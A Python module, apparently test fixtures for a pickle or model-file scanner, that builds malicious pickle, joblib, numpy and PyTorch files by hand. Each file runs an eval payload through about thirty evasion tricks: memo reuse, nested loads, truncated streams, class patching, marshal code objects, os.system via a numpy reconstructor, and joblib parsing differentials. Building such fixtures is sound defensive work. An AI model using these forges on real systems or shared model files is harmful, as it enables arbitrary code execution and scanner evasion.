"""Pickles that no pickler writes, put together opcode by opcode. `run` is Python source for eval."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import numpy as np

Forge = Callable[[str], bytes]


def text(value: str) -> bytes:
    return pickle.BINUNICODE + struct.pack("<I", len(value.encode())) + value.encode()


def name(module: str, attribute: str) -> bytes:
    """A global by STACK_GLOBAL."""
    return text(module) + text(attribute) + pickle.STACK_GLOBAL


def call(target: bytes, *args: bytes) -> bytes:
    return target + pickle.MARK + b"".join(args) + pickle.TUPLE + pickle.REDUCE


def evaluate(run: str) -> bytes:
    """The payload; None without one, which leaves only the trick around it."""
    return b"N" if not run else call(name("builtins", "eval"), text(run))


def proto(body: bytes, version: int = 4) -> bytes:
    return pickle.PROTO + bytes([version]) + body + pickle.STOP


ESTIMATOR = call(
    name("copyreg", "_reconstructor"), name("sklearn.svm._classes", "SVC"), name("builtins", "object"), b"N"
)


def old_global(run: str) -> bytes:
    return b"c__builtin__\neval\n(V" + run.encode("unicode-escape").replace(b"\\\\", b"\\u005c") + b"\ntR."


def through_memo(run: str) -> bytes:
    """The name is put into the memo under a number that held a harmless one before."""
    first = text("collections") + b"q\x01" + b"0" + text("OrderedDict") + b"q\x02" + b"0"
    second = text("builtins") + b"q\x01" + b"0" + text("eval") + b"q\x02" + b"0"
    return proto(first + second + b"h\x01h\x02" + pickle.STACK_GLOBAL + b"(" + text(run) + b"tR")


def inst(run: str) -> bytes:
    return proto(b"(" + text(run) + b"ibuiltins\neval\n", 2)


def obj(run: str) -> bytes:
    return proto(b"(" + name("builtins", "eval") + text(run) + b"o")


def duplicated(run: str) -> bytes:
    return proto(name("builtins", "eval") + pickle.DUP + b"(" + text(run) + b"tR")


def by_getattr(run: str) -> bytes:
    found = call(name("builtins", "getattr"), name("collections", "OrderedDict"), text("fromkeys"))
    return proto(found + b"0" + evaluate(run))


def dotted(run: str) -> bytes:
    """The list may hold a module whose imports lead anywhere."""
    return proto(call(name("sklearn.base", "warnings.sys.modules.__class__"), b"") + b"0" + evaluate(run))


def hidden_in_estimator(run: str) -> bytes:
    return proto(ESTIMATOR + b"}(" + text("kernel") + evaluate(run) + b"ub")


def nested_loads(run: str) -> bytes:
    inner = proto(evaluate(run))
    data = pickle.BINBYTES + struct.pack("<I", len(inner)) + inner
    return proto(call(name("_pickle", "loads"), data))


def second_pickle(run: str) -> bytes:
    return proto(ESTIMATOR) + proto(evaluate(run))


def broken_tail(run: str) -> bytes:
    return b"\x80\x04" + evaluate(run) + b"0" + ESTIMATOR + b"\xff"


def cut_tail(run: str) -> bytes:
    return b"\x80\x04" + evaluate(run) + b"0" + ESTIMATOR + b"X\xff\xff"


def compressed(run: str) -> bytes:
    return zlib.compress(hidden_in_estimator(run))


def joblib_objects(run: str) -> bytes:
    """The content of an array of objects, which joblib reads as a pickle of its own."""
    import joblib
    from sklearn.preprocessing import OneHotEncoder

    stream = io.BytesIO()
    joblib.dump(OneHotEncoder().fit(np.array([["MARK"], ["b"]], dtype=object)), stream, protocol=2)
    before, after = stream.getvalue().split(b"\x8c\x04MARK")
    # Without its frame, whose length would be wrong.
    head = pickle.PROTO + bytes([pickle.HIGHEST_PROTOCOL])
    outer, inner = before.rsplit(head + pickle.FRAME, 1)
    return outer + head + inner[8:] + evaluate(run) + after


def wrapper(shape: bytes, dtype: bytes, state: bytes = b"") -> bytes:
    """joblib's array wrapper, after which joblib reads raw bytes, and a plain unpickler opcodes."""
    made = call(name("copyreg", "_reconstructor"), WRAPPER, name("builtins", "object"), b"N")
    items = text("subclass") + name("numpy", "ndarray") + text("shape") + shape + text("order") + text("C")
    items += text("dtype") + dtype + text("allow_mmap") + b"\x89"
    return made + (state or b"}(" + items + b"u") + b"b"


def dtype(code: str, state: bytes) -> bytes:
    return call(name("numpy", "dtype"), text(code), b"\x89", b"\x88") + b"(" + state + b"tb"


WRAPPER = name("joblib.numpy_pickle", "NumpyArrayWrapper")
LITTLE = b"K\x03" + text("<") + b"NNN" + b"J\xff\xff\xff\xff" * 2 + b"K\x00"


def hidden_in_array(run: str) -> bytes:
    """Raw data for joblib, opcodes for everyone else."""
    opcodes = b"0" + evaluate(run) + b"0N."
    length = b"J" + len(opcodes).to_bytes(4, "little") + b"\x85"
    return proto(wrapper(length, dtype("u1", LITTLE)) + opcodes)


def other_class(run: str) -> bytes:
    """The state gives the wrapper another class: joblib does not read an array after it any more."""
    swapped = b"N}(" + text("__class__") + name("argparse", "Namespace") + b"u\x86"
    return proto(wrapper(b"", b"", swapped) + b"0" + evaluate(run))


def other_size(run: str) -> bytes:
    """The state of the dtype gives another size than its code."""
    odd = b"K\x03" + text("<") + b"NNN" + b"K\x09K\x01K\x00"
    return proto(wrapper(b"K\x01\x85", dtype("S1", odd)) + b"012345678" + b"0" + evaluate(run))


def other_order(run: str) -> bytes:
    """The shape is a big-endian number."""
    big = dtype("i8", b"K\x03" + text(">") + b"NNN" + b"J\xff\xff\xff\xff" * 2 + b"K\x00")
    size = call(name("numpy._core.multiarray", "scalar"), big, b"C\x08" + bytes(7) + b"\x01")
    return proto(wrapper(size + b"\x85", dtype("u1", LITTLE)) + b"x" + b"0" + evaluate(run))


def handed_on(run: str) -> bytes:
    """An allowed function makes the wrapper, unseen."""
    made = call(name("torch._tensor", "_rebuild_from_type_v2"), WRAPPER, WRAPPER, b")", b"N")
    return proto(made + b"0" + evaluate(run))


DIFFERENTIALS = (other_class, other_size, other_order, handed_on)
"""Pickles that joblib and a careless audit would read differently."""


def ufunc(run: str) -> bytes:
    found = call(name("numpy._core", "_ufunc_reconstruct"), text("os"), text("system"))
    return proto(evaluate(run) + b"0" + found)


def partial(run: str) -> bytes:
    return proto(call(call(name("functools", "partial"), name("builtins", "eval")), text(run)))


def patched_class(run: str) -> bytes:
    """BUILD on a class sets its attributes: the next use of the class runs them."""
    patched = b"N}(" + text("__init__") + name("collections", "OrderedDict") + b"u\x86b"
    return proto(evaluate(run) + b"0" + name("argparse", "Namespace") + patched)


def import_by_name(run: str) -> bytes:
    return proto(call(name("importlib", "import_module"), text("antigravity")) + b"0" + evaluate(run))


def code_object(run: str) -> bytes:
    import marshal

    code = marshal.dumps(compile(run, "<pickle>", "eval"))
    data = pickle.BINBYTES + struct.pack("<I", len(code)) + code
    function = call(
        name("types", "FunctionType"), call(name("marshal", "loads"), data), call(name("builtins", "globals"))
    )
    return proto(call(function))


def runstring(run: str) -> bytes:
    return proto(call(name("numpy.testing._private.utils", "runstring"), text(run), b"}"))


def extension(run: str) -> bytes:
    return proto(evaluate(run) + b"0" + b"\x82\x01")


def persistent(run: str) -> bytes:
    return proto(evaluate(run) + b"0" + text("id") + pickle.BINPERSID)


def space_in_name(run: str) -> bytes:
    """pickletools joins module and name with a space: "collections OrderedDict" is ambiguous there."""
    return proto(b"cbuiltins\neval\n(" + text(run) + b"tR", 2)


def methodcaller(run: str) -> bytes:
    return proto(call(name("operator", "methodcaller"), text("tofile"), text("x")) + b"0" + evaluate(run))


def memmap(run: str) -> bytes:
    mapped = call(
        name("numpy", "memmap"), text("mapped"), name("numpy", "uint8"), text("w+"), b"K\x00", b"K\x01"
    )
    return proto(mapped + b"0" + evaluate(run))


def list_subclass(run: str) -> bytes:
    """APPENDS calls `extend` of whatever is there."""
    return proto(call(name("collections", "deque")) + b"(" + evaluate(run) + b"e")


TRICKS = (
    by_getattr, dotted, ufunc, patched_class, import_by_name, extension, persistent, methodcaller, memmap,
    second_pickle, broken_tail, cut_tail,
)  # fmt: skip
"""These are wrong whatever they carry."""

_ALL = (
    *TRICKS, old_global, through_memo, inst, obj, duplicated, hidden_in_estimator, nested_loads, compressed,
    joblib_objects, partial, code_object, runstring, space_in_name, list_subclass,
)  # fmt: skip
PICKLES: dict[str, Forge] = {forge.__name__: forge for forge in _ALL}


# --- torch -------------------------------------------------------------------------------------------


def torch_zip(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return stream.getvalue()


def torch_pickle(run: str) -> bytes:
    return torch_zip({"m/data.pkl": proto(evaluate(run), 2), "m/version": b"3\n"})


def torch_nested_bytes(run: str) -> bytes:
    inner = torch_pickle(run)
    data = pickle.BINBYTES + struct.pack("<I", len(inner)) + inner
    return torch_zip(
        {"m/data.pkl": proto(call(name("torch.storage", "_load_from_bytes"), data)), "m/version": b"3\n"}
    )


def torch_legacy(run: str) -> bytes:
    """The payload is in the third pickle, which describes the writer's machine."""
    system = proto(b"}" + text("little_endian") + evaluate(run) + b"s", 2)
    parts = [pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {}, [])]
    return b"".join([*parts[:2], system, *parts[2:]])


def torch_module_function(run: str) -> bytes:
    module = b"ctorch.nn.modules.container\nSequential\n)\x81}(" + text("forward") + evaluate(run) + b"ub"
    return torch_zip({"m/data.pkl": proto(module, 2), "m/version": b"3\n"})


TORCH: dict[str, Forge] = {
    forge.__name__: forge for forge in (torch_pickle, torch_nested_bytes, torch_legacy, torch_module_function)
}


def npy(run: str) -> bytes:
    class Evil:
        def __reduce__(self) -> Any:
            return eval, (run,)

    stream = io.BytesIO()
    np.save(stream, np.array([Evil()], dtype=object), allow_pickle=True)
    return stream.getvalue()
